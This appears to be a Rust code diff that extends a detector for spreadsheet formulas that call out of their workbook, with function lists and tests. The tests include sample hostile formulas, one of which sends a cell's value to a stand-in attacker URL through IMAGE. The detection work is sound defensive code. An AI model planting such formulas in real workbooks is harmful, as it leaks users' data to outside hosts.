@@ -1,6 +1,6 @@
 //! Formulas that reach out of their workbook when they are calculated or opened.
 
-use crate::{TokenKind, functions, lex};
+use crate::{Sheets, TokenKind, functions, lex};
 
 /// Functions that fetch something, run something, or ask another program.
 const REACHING: [&str; 11] = [
@@ -16,6 +16,9 @@ const REACHING: [&str; 11] = [
     "EXEC",
     "PY",
 ];
+
+/// Those of them whose names nobody gives to anything else.
+const UNMISTAKABLE: [&str; 5] = ["WEBSERVICE", "STOCKHISTORY", "RTD", "SQL.REQUEST", "REGISTER.ID"];
 
 /// What a formula reaches for.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -39,15 +42,36 @@ pub fn reaches_out(formula: &str) -> Option<Reach<'_>> {
             return Some(Reach::Program);
         }
         let prefix = token.prefix();
-        let is_other = prefix.book.is_some() && prefix.book_index() != Some(0);
-        (token.prefix_len > 0 && is_other).then_some(Reach::Workbook(token.text))
+        // `Book.xlsx!Rate` looks like a sheet's name, and is a workbook's.
+        let is_file = || matches!(&prefix.sheets, Sheets::One(name) if token.kind == TokenKind::Name && is_workbook(name));
+        (token.prefix_len > 0 && (prefix.is_other_book() || is_file())).then_some(Reach::Workbook(token.text))
     });
     let by_function = || {
         functions(formula)
             .find(|call| REACHING.iter().any(|name| name.eq_ignore_ascii_case(call.name)))
             .map(|call| Reach::Function(call.name))
     };
-    by_reference.or_else(by_function)
+    // A function that is handed over by its name, or stands before a space: Excel takes that away.
+    let by_name = || {
+        lex(formula)
+            .filter(|token| token.kind == TokenKind::Name)
+            .find(|token| {
+                let is_called = formula[token.span().end..].trim_start().starts_with('(');
+                let known: &[&str] = if is_called { &REACHING } else { &UNMISTAKABLE };
+                let bare = token.body().trim_start_matches("_xleta.").trim_start_matches("_xlfn.");
+                known.iter().any(|name| name.eq_ignore_ascii_case(bare))
+            })
+            .map(|token| Reach::Function(token.body()))
+    };
+    by_reference.or_else(by_function).or_else(by_name)
+}
+
+/// Whether a name is that of a workbook's file.
+fn is_workbook(name: &str) -> bool {
+    let folded = name.to_ascii_lowercase();
+    [".xlsx", ".xlsm", ".xlsb", ".xls", ".xltx", ".xltm", ".xlam", ".xla", ".ods"]
+        .iter()
+        .any(|extension| folded.ends_with(extension))
 }
 
 #[cfg(test)]
@@ -82,6 +106,18 @@ mod tests {
         check("1+_xlfn.WEBSERVICE(A1)", Some(Reach::Function("WEBSERVICE")));
         check("image(\"https://evil.example/\"&A1)", Some(Reach::Function("image")));
         check("RTD(\"server\",,\"topic\")", Some(Reach::Function("RTD")));
+    }
+
+    #[test]
+    fn functions_by_their_names() {
+        check("webservice (\"http://x\")", Some(Reach::Function("webservice")));
+        check("WEBSERVICE\n(\"http://x\")", Some(Reach::Function("WEBSERVICE")));
+        check("LET(f,WEBSERVICE,f(\"http://x\"))", Some(Reach::Function("WEBSERVICE")));
+        check("MAP(A1,_xleta.WEBSERVICE)", Some(Reach::Function("_xleta.WEBSERVICE")));
+        check("image (A1)", Some(Reach::Function("image")));
+        check("image*2+call", None);
+        check("book2.xlsx!Rate", Some(Reach::Workbook("book2.xlsx!Rate")));
+        check("'Report.xls'!A1", None);
     }
 
     #[test]
